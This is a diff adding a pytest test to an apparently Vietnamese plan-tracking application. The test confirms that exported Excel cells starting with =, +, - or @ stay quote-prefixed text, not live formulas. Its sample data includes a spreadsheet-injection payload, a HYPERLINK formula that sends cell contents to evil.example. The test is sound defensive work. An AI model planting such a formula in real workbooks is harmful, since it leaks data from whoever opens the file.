@@ -82,3 +82,35 @@ def test_workbook_errors_name_sheet_row_and_column(db, tmp_path, runner):
     assert "loi.xlsx: trang tính 'PL3 Dự án', hàng 5, trường 'owner': Không tìm thấy đơn vị 'Sở Không Tồn Tại'" in result.output
     assert "trang tính 'PL3 Dự án', hàng 5, trường 'years_text': Năm thực hiện '2021/2023'" in result.output
     assert db.session.scalar(select(Plan).where(Plan.number == "1/KH-TEST")) is None
+
+
+FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+84 234 3822 xxx", "-5% chi phí",
+                "@SUM(A1:A9)", "=1+1"]
+
+
+def test_text_that_looks_like_a_formula_stays_text_and_reads_back(db, factory, tmp_path):
+    """plan-template --plan: item text starting with =, +, -, @ is written as text (quote-prefixed,
+    as the report workbook does), never as a formula, and reading the workbook gives it back."""
+    from tracker.plans.sources import read_workbook
+
+    area = factory.area(code="tinh-cong-thuc", name="Tỉnh Công Thức")
+    owner = factory.unit("Sở Thông tin và Truyền thông", area=area)
+    plan = factory.plan("7/KH-UBND", area=area)
+    for n, text in enumerate(FORMULA_LIKE, start=1):
+        factory.item(plan, kind="project", owner=owner, code=str(n), text=text, note=text, years_text="2021 - 2025")
+    db.session.commit()
+    data = build_plan_workbook(plan)
+
+    sheet = load_workbook(BytesIO(data))["PL3 Dự án"]
+    cells = [cell for row in sheet.iter_rows(min_row=3) for cell in row if cell.value in FORMULA_LIKE]
+    assert len(cells) == 2 * len(FORMULA_LIKE)
+    assert all(cell.data_type == "s" for cell in cells), [(c.coordinate, c.data_type) for c in cells]
+    assert all(cell.quotePrefix for cell in cells if cell.value[0] in "=+-@")
+
+    path = tmp_path / "cong-thuc.xlsx"
+    path.write_bytes(data)
+    doc = read_workbook(path)
+    appendix = next(a for a in doc.data["appendices"] if a["kind"] == "project")
+    items = appendix.get("items") or [i for s in appendix.get("sections", []) for i in s.get("items", [])]
+    assert [i["text"] for i in items] == FORMULA_LIKE
+    assert [i["note"] for i in items] == FORMULA_LIKE
